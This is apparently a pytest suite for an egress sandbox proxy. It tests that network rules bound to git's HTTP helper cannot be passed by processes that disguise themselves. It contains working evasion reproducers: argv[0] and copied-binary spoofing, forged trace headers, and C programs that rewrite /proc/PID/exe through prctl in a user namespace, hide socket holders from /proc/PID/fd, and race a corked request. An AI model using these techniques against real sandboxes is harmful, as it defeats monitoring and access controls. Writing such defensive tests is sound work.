"""Threat class 19: spoofing attribution from inside a real `egress run` sandbox.

A rule bound to git's HTTP transport must not be passed by a process that calls itself git (argv[0]),
by a copy of git's binary the sandbox made, or by git running code from a directory the sandbox
controls; the sandbox must not be able to move its decisions into another trace or context. Every
refusal is proven by the upstream's request count.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.dnsfake import FakeDns
from tests.harness import Upstream, clean_env
from tests.proxy.sandbox.conftest import EGRESS_WAIT, REPO
from tests.proxy.sandbox.test_attribution import BOUND_POLICY as POLICY
from tests.proxy.sandbox.test_attribution import GIT_HTTP

pytestmark = [pytest.mark.netns, pytest.mark.timeout(120)]

TRACE = "4bf92f3577b34da6a3ce929d0e0e4736"


@pytest.fixture
def setup(
    fake_dns: FakeDns, http_upstream: Upstream, tmp_path: Path
) -> tuple[Path, FakeDns, Upstream]:
    fake_dns.set("allowed.test", "A", ["127.0.0.1"])
    fake_dns.set("allowed.test", "AAAA", [])
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY.format(port=http_upstream.port, exe=GIT_HTTP))
    return policy, fake_dns, http_upstream


def _run(policy: Path, dns: FakeDns, log: Path, script: str, **env: str) -> str:
    result = subprocess.run(
        [sys.executable, "-m", "proxy.app.cli", "run", "--policy", str(policy), "--nameserver",
         dns.nameserver, "--decision-log", str(log), "--quiet", "--", "sh", "-c", script],
        cwd=REPO, env={**clean_env(), **env}, capture_output=True, text=True, timeout=EGRESS_WAIT,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    return result.stdout


def _compiled(tmp_path: Path, name: str, source: str, *flags: str) -> Path:
    """``source`` built with the machine's C compiler into ``tmp_path/name`` (skips without one)."""
    compiler = shutil.which("cc") or shutil.which("gcc")
    if compiler is None:
        pytest.skip("no C compiler")
    path, binary = tmp_path / f"{name}.c", tmp_path / name
    path.write_text(source)
    subprocess.run(
        [compiler, "-O2", *flags, "-o", str(binary), str(path)],
        check=True, capture_output=True, timeout=60,
    )  # fmt: skip
    return binary


def _refusals(log: Path) -> list[tuple[str, str]]:
    records = [json.loads(line) for line in log.read_text().splitlines()]
    return [
        (r.get("exe", "?"), r["reason"])
        for r in records
        if r["event"] == "egress.decision" and r["decision"] == "deny"
    ]


@pytest.mark.skipif(not os.path.exists(GIT_HTTP), reason="git's HTTP transport is not installed")
def test_a_renamed_process_or_a_copied_binary_does_not_pass(
    setup: tuple[Path, FakeDns, Upstream], tmp_path: Path
) -> None:
    policy, dns, upstream = setup
    url = f"http://allowed.test:{upstream.port}"
    copy = tmp_path / "exec"
    copy.mkdir()
    shutil.copy2(GIT_HTTP, copy / "git-remote-http")
    for name in os.listdir("/usr/lib/git-core"):  # git looks up its helpers here too
        if not (copy / name).exists() and name.startswith("git-remote"):
            (copy / name).symlink_to(copy / "git-remote-http")
    log = tmp_path / "decisions.jsonl"
    argv0 = (
        "import os; os.execv('/usr/bin/curl', "
        f"['{GIT_HTTP}', '-sS', '-m', '10', '-o', '/dev/null', '{url}/renamed'])"
    )
    script = f"""
{sys.executable} -c "{argv0}"
GIT_EXEC_PATH={copy} git ls-remote {url}/copied.git >/dev/null 2>&1
true
"""
    _run(policy, dns, log, script)
    assert upstream.requests == []  # neither ever arrived
    refusals = _refusals(log)
    assert ("/usr/bin/curl", "executable-not-allowed") in refusals  # argv[0] proves nothing
    assert (str(copy / "git-remote-http"), "executable-not-allowed") in refusals
    assert {reason for _, reason in refusals} == {"executable-not-allowed"}


def test_the_sandbox_cannot_move_its_decisions_into_another_trace_or_context(
    fake_dns: FakeDns, http_upstream: Upstream, tmp_path: Path
) -> None:
    fake_dns.set("allowed.test", "A", ["127.0.0.1"])
    fake_dns.set("allowed.test", "AAAA", [])
    policy = tmp_path / "open.yaml"
    policy.write_text(
        "version: 1\nallow_internal: [127.0.0.0/8]\nrules:\n  - name: t\n"
        f"    hosts: [allowed.test]\n    ports: [{http_upstream.port}]\n"
    )
    log = tmp_path / "decisions.jsonl"
    other = "00-" + "a" * 32 + "-" + "b" * 16 + "-01"
    script = f"""
export TRACEPARENT={other}
curl -sS -m 10 -o /dev/null -H 'traceparent: {other}' -H 'X-Egress-Context: task=evil' \\
  http://allowed.test:{http_upstream.port}/x
"""
    _run(
        policy, fake_dns, log, script,
        TRACEPARENT=f"00-{TRACE}-00f067aa0ba902b7-01",
    )  # fmt: skip
    records = [json.loads(line) for line in log.read_text().splitlines()]
    decisions = [r for r in records if r["event"] == "egress.decision" and r.get("path") == "/x"]
    assert decisions and all(d["trace_id"] == TRACE for d in decisions)
    assert all("context" not in d for d in decisions)


MANAGED_BOUND = """
version: 1
allow_internal: [127.0.0.0/8]
rules:
  - name: org-git
    hosts: [allowed.test]
    ports: [{port}]
    executables: [{exe}]
"""


@pytest.mark.skipif(not os.path.exists(GIT_HTTP), reason="git's HTTP transport is not installed")
def test_report_mode_under_a_managed_rule_bound_to_git_does_not_let_curl_through(
    fake_dns: FakeDns, http_upstream: Upstream, tmp_path: Path
) -> None:
    """A team's report-mode policy learns inside the organisation's ceiling: where the managed
    policy lets only git reach a host, a gap report mode would let through is refused to curl
    (nothing reaches the upstream), and a local rule letting every process reach it does not load."""
    fake_dns.set("allowed.test", "A", ["127.0.0.1"])
    fake_dns.set("allowed.test", "AAAA", [])
    managed = tmp_path / "managed.yaml"
    managed.write_text(MANAGED_BOUND.format(port=http_upstream.port, exe=GIT_HTTP))
    local = tmp_path / "local.yaml"
    local.write_text("version: 1\nmode: report\nallow_internal: [127.0.0.0/8]\nrules: []\n")
    log = tmp_path / "decisions.jsonl"
    url = f"http://allowed.test:{http_upstream.port}"
    before = http_upstream.accepted
    script = f"curl -sS -m 10 -o /dev/null {url}/gap || true\n"
    _run(local, fake_dns, log, script, EGRESS_MANAGED_POLICY=str(managed))
    assert http_upstream.requests == [] and http_upstream.accepted == before
    assert ("/usr/bin/curl", "executable-not-allowed") in _refusals(log)
    # control: git itself is let through the same gap (reported, and it reaches the upstream)
    _run(local, fake_dns, log, f"git ls-remote {url}/r.git >/dev/null 2>&1\ntrue\n",
         EGRESS_MANAGED_POLICY=str(managed))  # fmt: skip
    assert http_upstream.requests, "git's request never arrived"
    # a local rule that lets every process reach the host is past the ceiling: nothing runs
    local.write_text(
        "version: 1\nallow_internal: [127.0.0.0/8]\nrules:\n  - name: wide\n"
        f"    hosts: [allowed.test]\n    ports: [{http_upstream.port}]\n"
    )
    result = subprocess.run(
        [sys.executable, "-m", "proxy.app.cli", "run", "--policy", str(local), "--nameserver",
         fake_dns.nameserver, "--managed-policy", str(managed), "--quiet", "--", "true"],
        cwd=REPO, env=clean_env(), capture_output=True, text=True, timeout=EGRESS_WAIT,
    )  # fmt: skip
    assert result.returncode != 0
    assert "rule 'wide'" in result.stderr and f"only for {GIT_HTTP}" in result.stderr


# A process that names another file as its executable: in a user namespace of its own it holds
# CAP_SYS_ADMIN, and prctl(PR_SET_MM, PR_SET_MM_MAP) with an exe_fd replaces its mm's exe file
# (the kernel's /proc/PID/exe, device and inode included) once its own executable is unmapped.
# The code that unmaps it runs from an anonymous copy of itself, with raw system calls only.
EXE_LINK_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <linux/prctl.h>
#include <netinet/in.h>

struct ctx {
    struct prctl_mm_map map;
    unsigned long ranges[64][2];
    int nranges;
    struct sockaddr_in addr;
    char req[512];
    long reqlen;
    char resp[512];
};

static inline __attribute__((always_inline)) long sc(long n, long a, long b, long c, long d) {
    long ret;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = 0;  /* prctl(PR_SET_MM) refuses a fifth argument */
    __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
                     : "rcx", "r11", "memory");
    return ret;
}

__attribute__((section("payload_sec"), noinline, used)) void payload(struct ctx *c) {
    for (int i = 0; i < c->nranges; i++)
        sc(SYS_munmap, c->ranges[i][0], c->ranges[i][1] - c->ranges[i][0], 0, 0);
    long rc = sc(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&c->map, sizeof(c->map));
    char tag = rc == 0 ? 'S' : 'N';  /* spoofed, or not */
    sc(SYS_write, 2, (long)&tag, 1, 0);
    long s = sc(SYS_socket, AF_INET, SOCK_STREAM, 0, 0);
    sc(SYS_connect, s, (long)&c->addr, sizeof(c->addr), 0);
    sc(SYS_write, s, (long)c->req, c->reqlen, 0);
    long n = sc(SYS_read, s, (long)c->resp, sizeof(c->resp), 0);
    if (n > 0) sc(SYS_write, 1, (long)c->resp, n, 0);
    sc(SYS_exit_group, 0, 0, 0, 0);
}

extern char __start_payload_sec[], __stop_payload_sec[];

int main(int argc, char **argv) {
    int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
    int nested = fd >= 0 && unshare(CLONE_NEWUSER) == 0;
    struct ctx *c = mmap(NULL, sizeof(*c), PROT_READ | PROT_WRITE,
                         MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    char buf[4096], *save, *tok;
    FILE *f = fopen("/proc/self/stat", "r");
    size_t len = fread(buf, 1, sizeof buf - 1, f);
    buf[len] = 0;
    fclose(f);
    unsigned long v[64] = {0};
    int k = 3;
    for (tok = strtok_r(strrchr(buf, ')') + 2, " ", &save); tok && k < 64;
         tok = strtok_r(NULL, " ", &save), k++)
        v[k] = strtoul(tok, NULL, 10);
    c->map.start_code = v[26]; c->map.end_code = v[27]; c->map.start_stack = v[28];
    c->map.start_data = v[45]; c->map.end_data = v[46]; c->map.start_brk = v[47];
    c->map.arg_start = v[48]; c->map.arg_end = v[49];
    c->map.env_start = v[50]; c->map.env_end = v[51];
    c->map.brk = (unsigned long)sbrk(0);
    c->map.exe_fd = fd;
    char self[4096], line[8192];
    ssize_t sl = readlink("/proc/self/exe", self, sizeof self - 1);
    self[sl > 0 ? sl : 0] = 0;
    f = fopen("/proc/self/maps", "r");
    while (nested && fgets(line, sizeof line, f) && c->nranges < 64) {
        unsigned long a, b;
        char path[4096] = "";
        if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &a, &b, path) >= 2
            && strcmp(path, self) == 0) {
            c->ranges[c->nranges][0] = a;
            c->ranges[c->nranges][1] = b;
            c->nranges++;
        }
    }
    fclose(f);
    c->addr.sin_family = AF_INET;
    c->addr.sin_port = htons(3128);
    c->addr.sin_addr.s_addr = htonl(0x7f000001);
    c->reqlen = snprintf(c->req, sizeof c->req,
                         "GET http://%s/spoofed HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n",
                         argv[2], argv[2]);
    size_t plen = __stop_payload_sec - __start_payload_sec;
    void *code = mmap(NULL, plen, PROT_READ | PROT_WRITE | PROT_EXEC,
                      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(code, __start_payload_sec, plen);
    fflush(NULL);
    ((void (*)(struct ctx *))code)(c);
    return 0;
}
"""


@pytest.mark.skipif(not os.path.exists(GIT_HTTP), reason="git's HTTP transport is not installed")
@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the reproducer is x86-64 code")
def test_a_process_cannot_name_the_bound_program_as_its_executable_from_a_user_namespace(
    setup: tuple[Path, FakeDns, Upstream], tmp_path: Path
) -> None:
    """prctl(PR_SET_MM_MAP) needs capabilities only in the caller's own user namespace, which any
    process can create: under a policy that binds rules to executables the sandbox can create none,
    so the kernel's executable link stays the file the process was started from."""
    binary = _compiled(
        tmp_path, "exe_link", EXE_LINK_C, "-static", "-fno-stack-protector", "-fcf-protection=none"
    )
    policy, dns, upstream = setup
    log = tmp_path / "decisions.jsonl"
    out = _run(policy, dns, log, f"{binary} {GIT_HTTP} allowed.test:{upstream.port} 2>&1")
    assert upstream.requests == []  # nothing arrived
    assert out.startswith("N"), out  # the process never named git as its executable
    assert " 403 " in out.splitlines()[0]
    assert _refusals(log) == [(str(binary), "executable-not-allowed")]


def test_only_a_policy_that_binds_executables_keeps_user_namespaces_out_of_the_sandbox(
    fake_dns: FakeDns, setup: tuple[Path, FakeDns, Upstream], tmp_path: Path
) -> None:
    bound, _, upstream = setup
    unbound = tmp_path / "open.yaml"
    unbound.write_text(
        "version: 1\nallow_internal: [127.0.0.0/8]\nrules:\n  - name: t\n"
        f"    hosts: [allowed.test]\n    ports: [{upstream.port}]\n"
    )
    probe = f"{sys.executable} -I -c 'import os; os.unshare(os.CLONE_NEWUSER); print(\"created\")'"
    log = tmp_path / "decisions.jsonl"
    assert _run(unbound, fake_dns, log, probe).strip() == "created"  # nested sandboxes still work
    assert "created" not in _run(bound, fake_dns, log, f"{probe} 2>/dev/null; true")


# C shared by the attacks below: wait until a forked child runs the bound program.
WAIT_EXEC_C = r"""
/* Until the child runs the bound program (its /proc/PID/exe names it), at most 5 s. */
static void wait_exec(pid_t child, const char *path) {
    char link[64], target[4096], want[4096];
    if (!realpath(path, want)) return;
    snprintf(link, sizeof link, "/proc/%d/exe", (int)child);
    for (int i = 0; i < 500; i++) {
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n > 0) {
            target[n] = 0;
            if (strcmp(target, want) == 0) return;
        }
        usleep(10000);
    }
}
"""


# A process keeps a socket out of /proc/PID/fd while the bound program (which inherited it and
# never touches it) is the only holder the leader's file tables show: "own-table" holds it in a
# thread cloned without CLONE_FILES and closes the leader's copy; "leader-exits" ends the leader
# thread (whose table /proc/PID/fd is) while a thread sharing the table writes the request.
HIDDEN_HOLDER_C = (
    r"""
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <netinet/in.h>

static int sock;
static char req[512];

"""
    + WAIT_EXEC_C
    + r"""
static int worker(void *arg) {
    (void)arg;
    struct sockaddr_in a = {0};
    char resp[256];
    a.sin_family = AF_INET;
    a.sin_port = htons(3128);
    a.sin_addr.s_addr = htonl(0x7f000001);
    syscall(SYS_connect, sock, &a, sizeof a);
    syscall(SYS_write, sock, req, strlen(req));
    long n = syscall(SYS_read, sock, resp, sizeof resp);
    if (n > 0) syscall(SYS_write, 1, resp, n);
    syscall(SYS_exit_group, 0);
    return 0;
}

int main(int argc, char **argv) {
    char url[300];
    int p[2];
    (void)argc;
    snprintf(req, sizeof req, "GET http://%s/hidden HTTP/1.1\r\nHost: %s\r\n"
             "Connection: close\r\n\r\n", argv[2], argv[2]);
    snprintf(url, sizeof url, "http://%s/", argv[2]);
    sock = socket(AF_INET, SOCK_STREAM, 0);  /* no SOCK_CLOEXEC: the bound program inherits it */
    pipe(p);
    pid_t child = fork();
    if (child == 0) {  /* the bound program, waiting for commands on a pipe nobody writes */
        dup2(p[0], 0);
        execl(argv[1], argv[1], "origin", url, (char *)NULL);
        _exit(127);
    }
    wait_exec(child, argv[1]);  /* it runs the bound program, holding the socket */
    char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE,
                       MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
    int own = strcmp(argv[3], "own-table") == 0;
    int flags = CLONE_VM | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM | (own ? 0 : CLONE_FILES);
    clone(worker, stack + (1 << 16), flags, NULL);
    if (own) {
        close(sock);  /* out of the leader's table; the thread's copy of the table keeps it */
        for (;;) pause();
    }
    syscall(SYS_exit, 0);  /* the leader thread only */
    return 0;
}
"""
)


@pytest.mark.skipif(not os.path.exists(GIT_HTTP), reason="git's HTTP transport is not installed")
@pytest.mark.parametrize("mode", ["own-table", "leader-exits"])
def test_a_holder_hidden_from_proc_pid_fd_still_counts_for_a_bound_rule(
    setup: tuple[Path, FakeDns, Upstream], tmp_path: Path, mode: str
) -> None:
    """Every owner of the socket must run the bound file: one that keeps it in a thread's file
    table (not the leader's, which is what /proc/PID/fd shows) is found through its threads'."""
    binary = _compiled(tmp_path, "hidden", HIDDEN_HOLDER_C)
    policy, dns, upstream = setup
    log = tmp_path / "decisions.jsonl"
    out = _run(policy, dns, log, f"{binary} {GIT_HTTP} allowed.test:{upstream.port} {mode}")
    assert upstream.requests == []  # nothing arrived
    assert out.startswith("HTTP/1.1 403 "), out
    records = [json.loads(line) for line in log.read_text().splitlines()]
    refused = [r for r in records if r["event"] == "egress.decision" and r["decision"] == "deny"]
    assert [r["reason"] for r in refused] == ["executable-not-allowed"]
    assert str(binary) in refused[0]["detail"]  # the hidden holder is named


# The bound program inherits an unconnected socket (so its pid, newer, is the first owner a search
# from the newest finds); the older process connects it, queues its request with TCP_CORK (held up
# to 200 ms by the kernel) and closes its copy 150 ms later, well after the gate's lookup as the
# connection opened but before the request is decided. (Closing it within microseconds of the
# connect, before any lookup can read /proc, is the race docs/attribution.md describes.)
CORKED_C = (
    r"""
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <netinet/tcp.h>

"""
    + WAIT_EXEC_C
    + r"""
int main(int argc, char **argv) {
    char req[512], url[300];
    int p[2], one = 1;
    struct sockaddr_in a = {0};
    (void)argc;
    snprintf(req, sizeof req, "GET http://%s/corked HTTP/1.1\r\nHost: %s\r\n"
             "Connection: close\r\n\r\n", argv[2], argv[2]);
    snprintf(url, sizeof url, "http://%s/", argv[2]);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    pipe(p);
    pid_t child = fork();
    if (child == 0) {
        dup2(p[0], 0);
        execl(argv[1], argv[1], "origin", url, (char *)NULL);
        _exit(127);
    }
    wait_exec(child, argv[1]);
    a.sin_family = AF_INET;
    a.sin_port = htons(3128);
    a.sin_addr.s_addr = htonl(0x7f000001);
    setsockopt(s, IPPROTO_TCP, TCP_CORK, &one, sizeof one);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
    write(s, req, strlen(req));
    usleep(150000);  /* long after the gate's lookup as it accepted, within the cork's 200 ms */
    close(s);
    sleep(1);
    return 0;
}
"""
)


@pytest.mark.skipif(not os.path.exists(GIT_HTTP), reason="git's HTTP transport is not installed")
def test_a_corked_request_from_an_older_holder_of_an_inherited_socket_is_refused(
    setup: tuple[Path, FakeDns, Upstream], tmp_path: Path
) -> None:
    """The search as the connection opens stopped at the newest owner, the bound program, and the
    process that wrote the request had let go of the socket by the time it was decided: it passed
    a rule bound to git-remote-http. Under a bound rule that search finds every owner."""
    binary = _compiled(tmp_path, "corked", CORKED_C)
    policy, dns, upstream = setup
    for attempt in range(3):
        log = tmp_path / f"decisions-{attempt}.jsonl"
        _run(policy, dns, log, f"{binary} {GIT_HTTP} allowed.test:{upstream.port}")
        assert _refusals(log) == [(GIT_HTTP, "executable-not-allowed")]
    assert upstream.requests == []  # nothing arrived
